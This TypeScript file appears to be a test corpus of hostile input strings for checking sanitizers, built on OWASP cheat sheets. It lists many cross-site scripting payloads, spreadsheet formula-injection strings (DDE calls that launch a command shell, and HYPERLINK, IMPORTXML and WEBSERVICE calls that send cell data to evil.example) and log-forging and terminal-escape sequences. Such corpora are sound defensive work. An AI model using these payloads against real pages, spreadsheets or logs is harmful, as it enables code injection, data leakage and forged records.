/** Texts that are commands somewhere: in a page, a spreadsheet, a log, a terminal. Own writing after OWASP’s cheat sheets. */

/** Runs when a text of this corpus became code in a page. */
const shout = 'globalThis.hostile=1';

const elements = [
  `<script>${shout}</script>`,
  `<ScRiPt >${shout}</sCrIpT>`,
  `<script src=data:text/javascript,${shout}></script>`,
  `<script/x>${shout}</script/x>`,
  `<img src=x onerror=${shout}>`,
  `<img/src='x'/onerror='${shout}'>`,
  `<IMG SRC=x ONERROR="${shout}">`,
  `<svg onload=${shout}>`,
  `<svg><script>${shout}</script></svg>`,
  `<svg><animate onbegin=${shout} attributeName=x dur=1s>`,
  `<body onload=${shout}>`,
  `<iframe src="javascript:${shout}"></iframe>`,
  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${shout}</script>"></object>`,
  `<embed src="javascript:${shout}">`,
  `<a href="javascript:${shout}">click</a>`,
  `<a href="jav&#x09;ascript:${shout}">click</a>`,
  `<form action="javascript:${shout}"><button>go</button></form>`,
  `<button formaction="javascript:${shout}">go</button>`,
  `<input autofocus onfocus=${shout}>`,
  `<details open ontoggle=${shout}><summary>x</summary></details>`,
  `<video><source onerror=${shout}></video>`,
  `<audio src=x onerror=${shout}></audio>`,
  `<marquee onstart=${shout}>x</marquee>`,
  `<math><mtext><img src=x onerror=${shout}></mtext></math>`,
  `<style>@import 'javascript:${shout}';</style>`,
  `<link rel=stylesheet href="javascript:${shout}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${shout}">`,
  `<base href="javascript:${shout}//">`,
  `<template><img src=x onerror=${shout}></template>`,
  `<x onclick=${shout} tabindex=1>x</x>`,
  `<noscript><p title="</noscript><img src=x onerror=${shout}>">`,
] as const;
/** What must be left first, depending on where the text ends up. */
const ways = ['', '">', `'>`, '</title>', '</textarea>', '-->'] as const;
const inPages = [
  ...ways.flatMap((way) => elements.slice(0, way === '' ? elements.length : 10).map((one) => `${way}${one}`)),
  `javascript:${shout}`,
  `JaVaScRiPt:${shout}`,
  `data:text/html,<script>${shout}</script>`,
  `" onmouseover="${shout}`,
  `' onfocus='${shout}' autofocus='`,
  `\`\${${shout}}\``,
  `{{constructor.constructor('${shout}')()}}`,
  `\${${shout}}`,
  `</script><script>${shout}</script>`,
  `&lt;script&gt;${shout}&lt;/script&gt;`,
  `&#60;img src=x onerror=${shout}&#62;`,
  `\\u003cimg src=x onerror=${shout}\\u003e`,
  `%3Cscript%3E${shout}%3C/script%3E`,
  `[click](javascript:${shout})`,
  `![x](x"onerror="${shout})`,
];

const formulas = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  `cmd|' /C calc'!A0`,
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example")',
  `DDE("cmd";"/C calc";"x")`,
] as const;
/** What a spreadsheet starts a formula at, also behind what it skips. */
const triggers = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠'] as const;
const inSheets = [
  ...triggers.flatMap((trigger) => formulas.map((formula) => `${trigger}${formula}`)),
  `";=1+1;"`,
  `",=1+1,"`,
  `"\r\n=1+1`,
  '\ufeff=1+1',
  '\u200b=1+1',
  '-2+3+cmd|x!A0',
];

const fakeLine = '{"level":30,"msg":"session.started","actor":"admin"}';
const inLogs = [
  ...['\n', '\r', '\r\n', '\n\n', '\u0085', '\u2028', '\u2029', '\u000b', '\u000c'].map(
    (end) => `ordinary${end}${fakeLine}`,
  ),
  `ordinary%0d%0a${fakeLine}`,
  `ordinary\\n${fakeLine}`,
  `"}\n${fakeLine}`,
  '\u001b[2J\u001b[1;1H all is well',
  '\u001b]0;title\u0007',
  '\u001b[31mred\u001b[0m',
  '\u009b31mred',
  '\u202egnp.exe',
  '\u2066hidden\u2069',
  '\b\b\b\b\b\bgone',
  'bell\u0007',
  '\u007f\u007f',
];

export const hostileTexts = { inPages, inSheets, inLogs } as const;

export const everyHostileText: readonly string[] = [...new Set([...inPages, ...inSheets, ...inLogs])];
